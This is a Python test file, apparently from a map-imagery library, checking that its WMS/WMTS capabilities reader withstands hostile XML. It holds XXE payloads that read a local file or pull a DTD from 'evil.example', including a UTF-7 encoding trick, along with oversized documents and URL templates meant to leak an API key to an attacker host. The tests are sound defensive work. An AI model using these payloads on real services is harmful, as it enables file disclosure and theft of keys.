"""Capabilities that attack: entities in every encoding, documents that grow, placeholders for keys."""

from __future__ import annotations

import contextlib
import importlib
import threading
import time
import warnings
from xml.parsers import expat

import pytest
from terrainav.core.errors import InvalidInput, SourceError
from terrainav.core.imagery.http.transport import Response
from terrainav.core.imagery.opening import SourceOptions, named_source
from terrainav.core.limits import MAX_XML_ATTRIBUTES, MAX_XML_DEPTH, MAX_XML_ELEMENTS

from tests.support.services import (
    dimension,
    matrix,
    matrix_set,
    service_entry,
    wms_document,
    wmts_document,
    wmts_layer,
)
from tests.support.thinning import thinned

pytest.importorskip("owslib")
with warnings.catch_warnings():
    # It imports a module that Python is going to drop; that is for it to change.
    warnings.simplefilter("ignore", DeprecationWarning)
    importlib.import_module("owslib.wms")
    importlib.import_module("owslib.wmts")

HOST = "maps.example"
QUAD = matrix_set("quad", [matrix(str(zoom), zoom) for zoom in range(5)])
LAYER_130 = "<Layer><Title>All</Title><CRS>EPSG:3857</CRS><Layer><Name>ortho</Name><Title>{}</Title></Layer></Layer>"
LAYER_111 = "<Layer><Title>All</Title><SRS>EPSG:900913</SRS><Layer><Name>ortho</Name><Title>{}</Title></Layer></Layer>"
WMS_TYPE = (
    '<!DOCTYPE WMT_MS_Capabilities SYSTEM "http://schemas.opengis.net/wms/1.1.1/WMS_MS_Capabilities.dtd"'
    " [\n <!ELEMENT VendorSpecificCapabilities EMPTY>\n ]>"
)


def layers(name, **options):
    """Layers that a service offers."""
    return named_source(name, SourceOptions(**options)).layers()


class Answering:
    """A transport that answers every request with one document and notes what was asked."""

    def __init__(self, body):
        self.body, self.asked = body, []

    def get(self, url, headers=None):
        self.asked.append(url)
        return Response(200, {"content-type": "text/xml"}, self.body)

    def close(self):
        """Nothing is held."""


def wmts(title="Ortho", **more):
    more.setdefault("resources", [("image/png", "/{TileMatrix}/{TileCol}/{TileRow}")])
    return wmts_document([wmts_layer("ortho", {"quad": []}, title=title, **more)], [QUAD])


def read(kind, body, **options):
    return service_entry(f"{kind}:https://{HOST}/c.xml", transport=Answering(body), **options)


def refusal(kind, body):
    with pytest.raises(SourceError) as raised:
        read(kind, body)
    text = str(raised.value)
    assert "\n" not in text
    assert HOST in text
    return text


def with_entity(body, secret):
    """Document that shows a local file where a title stands, if entities are read."""
    text = body.decode().partition("?>")[2].replace("TITLE", "&leak;")
    return f'<!DOCTYPE x [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>{text}'


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text("the-content-of-a-local-file")
    return path


def utf_7(text):
    """Text whose signs are written so that no look at the bytes sees them."""
    return text.replace("<!", "+ADwAIQ-").replace("&", "+ACY-").encode("ascii")


@pytest.mark.parametrize("kind", ["wmts", "wms"])
@pytest.mark.parametrize(
    ("stated", "encode"),
    [
        ("UTF-8", lambda text: text.encode()),
        ("UTF-7", utf_7),
        ("utf7", utf_7),
        ("UTF-16", lambda text: text.encode("utf-16")),
        ("UTF-16LE", lambda text: text.encode("utf-16-le")),
        ("UTF-16BE", lambda text: text.encode("utf-16-be")),
        ("UTF-32", lambda text: text.encode("utf-32")),
        ("ISO-8859-1", lambda text: text.encode("latin-1")),
        ("ISO-2022-JP", lambda text: text.encode("iso2022_jp")),
        ("IBM037", lambda text: text.encode("cp037")),
    ],
)
def test_no_entity_is_read_whatever_the_encoding(kind, stated, encode, secret):
    body = wmts("TITLE") if kind == "wmts" else wms_document("1.3.0", "https://x/", LAYER_130.format("TITLE"))
    body = encode(f'<?xml version="1.0" encoding="{stated}"?>' + with_entity(body, secret))
    texts = []

    # Settings of lxml hold for one thread: in another one its default is to read entities.
    def in_thread():
        with contextlib.suppress(InvalidInput):
            texts.append(refusal(kind, body))

    thread = threading.Thread(target=in_thread)
    thread.start()
    thread.join()
    assert len(texts) == 1
    assert "the-content" not in texts[0]
    assert "cannot be read" in texts[0] or "no capabilities" in texts[0]


def test_the_type_of_wms_1_1_1_is_left_out_and_its_entities_refused(secret):
    body = wms_document("1.1.1", "https://x/", LAYER_111.format("Ortho")).decode().partition("?>")[2]
    start = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!-- made by a server -->\n'
    assert read("wms", (start + WMS_TYPE + body).encode()).title == "Ortho"
    for inner in (
        f'<!ENTITY leak SYSTEM "{secret.as_uri()}">',
        '<!ENTITY % more SYSTEM "http://evil.example/x.dtd"> %more;',
        '<!NOTATION n SYSTEM "x">',
    ):
        hostile = WMS_TYPE.replace("<!ELEMENT", inner + "<!ELEMENT") + body.replace("Ortho", "&leak;")
        assert "a document type or entities" in refusal("wms", (start + hostile).encode())


@pytest.mark.parametrize(
    ("stated", "encoding"), [("ISO-8859-1", "latin-1"), ("UTF-16", "utf-16"), ("UTF-8", "utf-8-sig")]
)
def test_encodings_that_services_have_are_read(stated, encoding):
    body = wmts("Überflug").decode().partition("?>")[2]
    text = f'<?xml version="1.0" encoding="{stated}"?>\n{body}'
    assert read("wmts", text.encode(encoding)).title == "Überflug"


@pytest.mark.parametrize(
    "before",
    [
        '<?xml version="1.0" encoding="UTF-8"?><?xml version="1.0" encoding="UTF-7"?>',
        f'<?xml version="1.0"{" " * 2000}encoding="UTF-7"?>',
    ],
    ids=["second", "long"],
)
def test_no_other_declaration_states_another_encoding(before, secret):
    """Neither one behind the first nor one that ends far behind the beginning is what a parser goes by."""
    hostile = utf_7(with_entity(wmts("TITLE"), secret))
    assert "Start tag expected" in refusal("wmts", before.encode() + hostile)


def test_another_encoding_is_named_with_those_that_are_right():
    text = wmts().replace(b"UTF-8", b"UTF-7")
    assert "encoding UTF-7: must be UTF-8, UTF-16 or Latin-1" in refusal("wmts", text)


BEYOND = {
    "depth": (
        lambda: "<a>" * (MAX_XML_DEPTH + 1) + "</a>" * (MAX_XML_DEPTH + 1),
        f"more than {MAX_XML_DEPTH} deep",
    ),
    "elements": (lambda: "<a/>" * (2 * MAX_XML_ELEMENTS), "1,000,000 elements"),
    "empty elements": (lambda: "<a/>" * MAX_XML_ELEMENTS, "1,000,000 elements"),
    "small elements": (lambda: "<a b='' c='' d=''/>" * 800_000, "3,000,000 elements and attributes"),
    "attributes": (
        lambda: f"<a {' '.join(f'b{i}=%s' for i in range(300_000))}/>" % (("''",) * 300_000),
        "attributes of one",
    ),
    "names": (lambda: "".join(f"<a{i}/>" for i in range(900_000)), "10,000 different names"),
    "names of attributes": (
        lambda: "".join(f"<a b{i} = '' xmlns:c{i}=''/>" for i in range(400_000)),
        "10,000 different names",
    ),
    "layers": (lambda: "<Layer><Name>a</Name></Layer>" * 300_000, "50,000 layers and styles"),
    "styles": (
        lambda: f"<Layer>{'<Style><Name>a</Name></Style>' * 300_000}</Layer>",
        "50,000 layers and styles",
    ),
}


# One reader takes both kinds of document: each is given some of what there can be too much of.
@pytest.mark.parametrize(
    ("kind", "grown", "says"),
    thinned(
        {f"{kind}, {name}": (kind, *case) for kind in ("wmts", "wms") for name, case in BEYOND.items()},
        [
            *(f"wmts, {name}" for name in ("depth", "attributes", "names of attributes", "styles")),
            "wms, empty elements",
            "wms, small elements",
            *(f"wms, {name}" for name in ("depth", "elements", "names", "layers")),
        ],
    ),
)
def test_documents_beyond_measure_are_given_up_before_they_take_time(kind, grown, says):
    assert MAX_XML_ATTRIBUTES < 300_000
    body = wmts() if kind == "wmts" else wms_document("1.3.0", "https://x/", LAYER_130.format("Ortho"))
    end = b"</Contents>" if kind == "wmts" else b"</Capability>"
    body = body.replace(end, grown().encode() + end)
    begun_s = time.thread_time()
    assert says in refusal(kind, body)
    refused_s, begun_s = time.thread_time() - begun_s, time.thread_time()
    with contextlib.suppress(expat.ExpatError):
        expat.ParserCreate().Parse(body, True)
    once_s = time.thread_time() - begun_s
    # Where they are read, it is half a minute at least: lxml compares each attribute of an element with all others, and
    # each name with many, and OWSLib makes 7 kB of a layer. To go through them once is a quarter of a second.
    assert refused_s < 20.0 * max(once_s, 0.02)


def test_layers_that_multiply_what_they_inherit_are_given_up():
    crs = "".join(f"<CRS>C:{number}</CRS>" for number in range(20_000))
    inner = "<Layer><Name>a</Name></Layer>" * 20_000
    body = wms_document("1.3.0", "https://x/", f"<Layer><Title>All</Title>{crs}{inner}</Layer>")
    assert "pass on more than" in refusal("wms", body)


def test_what_a_large_server_passes_on_is_read():
    """6,000 coordinate systems for 200 layers, as servers with their usual settings have them."""
    crs = "".join(f"<CRS>EPSG:{number}</CRS>" for number in range(1000, 7000))
    inner = "".join(f"<Layer><Name>l{number}</Name><Title>t</Title></Layer>" for number in range(200))
    body = wms_document("1.3.0", "https://x/", f"<Layer><Title>All</Title>{crs}{inner}</Layer>")
    name = f"wms:https://{HOST}/c"
    assert len(layers(name, transport=Answering(body))) == 200


# --- keys

MARKS = ("{key}", "${key}", "&#123;key&#125;", "{ke{style}y}", "{{key}}")


@pytest.mark.parametrize("mark", MARKS)
@pytest.mark.parametrize("key", [None, "s3cret"])
def test_a_key_is_never_filled_into_what_a_document_names(monkeypatch, mark, key):
    """The template, the address of GetTile and the names of layer, style and dimension are the server's own words."""
    monkeypatch.setenv("TERRAINAV_KEY", "s3cret")
    address = f"https://{HOST}/c.xml" + ("?k={key}" if key else "")
    evil = "https://evil.example/"
    tiles = f"{evil}{mark}/{{TileMatrix}}/{{TileCol}}/{{TileRow}}"
    documents = [
        wmts(resources=[("image/png", tiles)], styles=(("", True),)),
        wmts_document([wmts_layer("ortho", {"quad": []})], [QUAD], get_tile=f"{evil}{mark}?"),
        wmts_document(
            [wmts_layer(mark, {"quad": []}, dimensions=dimension("band", mark, mark), styles=((mark, True),))],
            [QUAD],
            get_tile=evil,
        ),
    ]
    for body in documents:
        try:
            entry = service_entry(f"wmts:{address}", key=key, transport=Answering(body))
        except (InvalidInput, SourceError):
            continue
        filled = entry.templates(entry.date(None))[""].url(3, 1, 2, key="s3cret")
        assert "s3cret" not in filled
        assert entry.key_env is None
    layer = f"<Layer><Title>All</Title><CRS>EPSG:3857</CRS><Layer><Name>{mark}</Name><Title>t</Title></Layer></Layer>"
    body = wms_document("1.3.0", f"{evil}{mark}?", layer)
    with contextlib.suppress(InvalidInput, SourceError):
        entry = service_entry(f"wms:{address}", key=key, transport=Answering(body))
        assert "s3cret" not in entry.templates("")[""].url(3, 1, 2, key="s3cret")


def test_a_key_that_the_server_repeats_is_filled_where_it_stood():
    body = wmts(resources=[("image/png", "https://tiles.example/s3cret/{TileMatrix}/{TileCol}/{TileRow}")])
    entry = service_entry(f"wmts:https://{HOST}/c.xml?k={{key}}", key="s3cret", transport=Answering(body))
    assert entry.urls[""] == "https://tiles.example/{key}/{z}/{x}/{y}"
